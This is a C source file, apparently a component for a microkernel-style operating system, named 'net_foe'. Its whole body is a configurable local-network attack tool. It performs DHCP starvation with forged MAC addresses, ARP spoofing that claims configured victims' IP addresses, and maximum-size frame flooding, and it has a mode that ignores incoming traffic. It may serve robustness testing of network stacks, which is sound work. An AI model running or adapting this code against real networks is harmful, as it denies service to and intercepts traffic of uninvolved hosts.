/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * net_foe.c: one that does its neighbors on a network harm, as its config says, as fast as its session takes
 * the frames:
 *   starve  asks for addresses by DHCP, each time as another machine
 *   spoof   says by ARP and in its packets that the addresses `as` are its own
 *   flood   sends the longest frames to `to`, a MAC address, or to everybody
 *   deaf    takes no frames that come, after it has said who it is
 * Whoever is not deaf says how far it is, after 4096 frames for the first time.
 */
#include <network/address.h>
#include <network/proto.h>
#include <os/component.h>
#include <os/config_rom.h>
#include <os/nic.h>

#include <stdio.h>
#include <string.h>

OS_MANIFEST("requires: [Nic]\n"
            "ram: 4M\n"
            "caps: 40\n"
            "config: { does: string, to: string, as: { type: list, of: string } }\n");

enum {
    IP = NET_ETH_HEADER,
    UDP = IP + NET_IPV4_HEADER,
    DHCP = UDP + NET_UDP_HEADER,
    DHCP_SIZE = 260,
    LONGEST = OS_NIC_HEADER + OS_NIC_MTU,
    ROOM = 64, /* frames that go at once */
    TOLD = 4096,
    VICTIMS = 8,
};

static struct os_env *env;
static struct os_config_rom config;
static struct os_nic_session nic;
static struct os_nic_info info;
static struct os_nic_frames_source tx;
static struct os_nic_frames_sink rx;
static uint32_t count; /* frames that were sent */
static uint8_t to[6];
static struct net_addr victims[VICTIMS];
static uint32_t victim_count;
static uint32_t (*make)(uint8_t *frame, uint32_t number); /* bytes of frame NUMBER */

static void put_ethernet(uint8_t *frame, const uint8_t *dst, const uint8_t *src, uint16_t type)
{
    memcpy(frame + NET_ETH_DST, dst, 6);
    memcpy(frame + NET_ETH_SRC, src, 6);
    net_put16(frame + NET_ETH_TYPE, type);
}

static void put_ip(uint8_t *ip, const uint8_t src[4], uint8_t proto, uint16_t len)
{
    ip[NET_IPV4_VERSION] = 0x45;
    net_put16(ip + NET_IPV4_LEN, (uint16_t)(NET_IPV4_HEADER + len));
    ip[NET_IPV4_TTL] = 64;
    ip[NET_IPV4_PROTO] = proto;
    memcpy(ip + NET_IPV4_SRC, src, 4);
    memset(ip + NET_IPV4_DST, 255, 4);
    net_put16(ip + NET_IPV4_CHECKSUM, net_checksum(0, ip, NET_IPV4_HEADER));
}

/* A DHCPDISCOVER of machine NUMBER, every other one in a frame that is of that machine as well. */
static uint32_t make_discover(uint8_t *frame, uint32_t number)
{
    static const uint8_t nobody[4], options[] = { 0x63, 0x82, 0x53, 0x63, 53, 1, 1, 255 };
    uint8_t mac[6] = { 0x02, 0xf0 }, *udp = frame + UDP, *dhcp = frame + DHCP;
    memset(frame, 0, DHCP + DHCP_SIZE);
    net_put32(mac + 2, number);
    put_ethernet(frame, net_mac_broadcast, number & 1 ? mac : info.mac, NET_ETH_IPV4);
    put_ip(frame + IP, nobody, NET_PROTO_UDP, NET_UDP_HEADER + DHCP_SIZE);
    net_put16(udp + NET_UDP_SRC, 68);
    net_put16(udp + NET_UDP_DST, 67);
    net_put16(udp + NET_UDP_LEN, NET_UDP_HEADER + DHCP_SIZE);
    dhcp[0] = 1; /* a request, from Ethernet */
    dhcp[1] = 1;
    dhcp[2] = 6;
    net_put32(dhcp + 4, number);
    memcpy(dhcp + 28, mac, sizeof(mac));
    memcpy(dhcp + 236, options, sizeof(options));
    return DHCP + DHCP_SIZE;
}

/* Announcements, answers that nobody has asked for, and packets. */
static uint32_t make_claim(uint8_t *frame, uint32_t number)
{
    const struct net_addr *victim = &victims[number / 3 % victim_count];
    uint8_t *arp = frame + NET_ETH_HEADER;
    memset(frame, 0, LONGEST);
    if (number % 3 == 2) {
        put_ethernet(frame, net_mac_broadcast, info.mac, NET_ETH_IPV4);
        put_ip(frame + IP, victim->bytes, NET_PROTO_UDP, NET_UDP_HEADER);
        net_put16(frame + UDP + NET_UDP_LEN, NET_UDP_HEADER);
        return DHCP;
    }
    put_ethernet(frame, net_mac_broadcast, info.mac, NET_ETH_ARP);
    net_put16(arp + NET_ARP_HARDWARE, 1);
    net_put16(arp + NET_ARP_PROTOCOL, NET_ETH_IPV4);
    arp[NET_ARP_HARDWARE_LEN] = 6;
    arp[NET_ARP_PROTOCOL_LEN] = 4;
    net_put16(arp + NET_ARP_OPERATION, number % 3 ? NET_ARP_REPLY : NET_ARP_REQUEST);
    memcpy(arp + NET_ARP_SENDER_MAC, info.mac, 6);
    memcpy(arp + NET_ARP_SENDER_IP, victim->bytes, 4);
    memcpy(arp + NET_ARP_TARGET_IP, victim->bytes, 4);
    return NET_ETH_HEADER + NET_ARP_SIZE;
}

static uint32_t make_long(uint8_t *frame, uint32_t number)
{
    memset(frame, (int)number, LONGEST);
    put_ethernet(frame, to, info.mac, 0x88b5);
    return LONGEST;
}

static uint32_t make_hello(uint8_t *frame, uint32_t number)
{
    (void)number;
    memset(frame, 0, 60);
    put_ethernet(frame, net_mac_broadcast, info.mac, 0x88b5);
    return 60;
}

static int send(void)
{
    struct os_nic_frames_packet packet;
    if (os_nic_frames_source_alloc(&tx, LONGEST, &packet))
        return 0;
    packet.len = make(packet.data, count);
    os_require(env, os_nic_frames_source_submit(&tx, &packet), "submit");
    if (++count % TOLD == 0 && !(count / TOLD & (count / TOLD - 1)))
        printf("%u frames sent\n", count);
    return 1;
}

static void go_on(struct os_nic_frames_source *source)
{
    os_nic_frames_source_reclaim(source);
    while (send())
        ;
    os_nic_frames_source_flush(source);
    os_nic_frames_source_arm(source, ROOM);
}

static void take(struct os_nic_frames_sink *sink)
{
    struct os_nic_frames_packet packet;
    while (make != make_hello && os_nic_frames_sink_get(sink, &packet))
        os_nic_frames_sink_ack(sink, &packet);
}

static void read_victims(os_config_ref list)
{
    const struct os_config *c = &config.config;
    for (os_config_ref at = os_config_first(c, list); at && victim_count < VICTIMS;
         at = os_config_next(c, at))
        os_require(env, net_addr_parse(os_config_value(c, at), &victims[victim_count++]), "an address");
}

static void read_config(os_config_ref root)
{
    const char *does = os_config_str(&config.config, root, "does", "");
    memcpy(to, net_mac_broadcast, sizeof(to));
    os_config_ref mac = os_config_get(&config.config, root, "to");
    if (mac)
        os_require(env, net_mac_parse(os_config_value(&config.config, mac), to), "a MAC address");
    read_victims(os_config_get(&config.config, root, "as"));
    make = strcmp(does, "starve") == 0                  ? make_discover
           : strcmp(does, "spoof") == 0 && victim_count ? make_claim
           : strcmp(does, "flood") == 0                 ? make_long
           : strcmp(does, "deaf") == 0                  ? make_hello
                                                        : NULL;
    if (!make)
        os_fail(env, OS_ERR_BAD_ARG, "does");
}

void component_construct(struct os_env *given)
{
    env = given;
    os_require(env, os_config_rom_open(&config, env, "config", NULL), "config");
    read_config(os_config_root(&config.config));
    tx.handle = go_on;
    rx.handle = take;
    os_require(env, os_nic_open(env, "", "", &nic), "Nic");
    os_require(env, os_nic_tx_connect(&tx, env->ep, nic.cap, OS_NIC_STREAM), "tx");
    os_require(env, os_nic_rx_connect(&rx, env->ep, nic.cap, OS_NIC_STREAM), "rx");
    os_require(env, os_nic_info(nic.cap, &info), "info");
    if (make != make_hello) {
        go_on(&tx);
    } else if (send()) {
        os_nic_frames_source_flush(&tx);
        printf("takes nothing\n");
    }
}
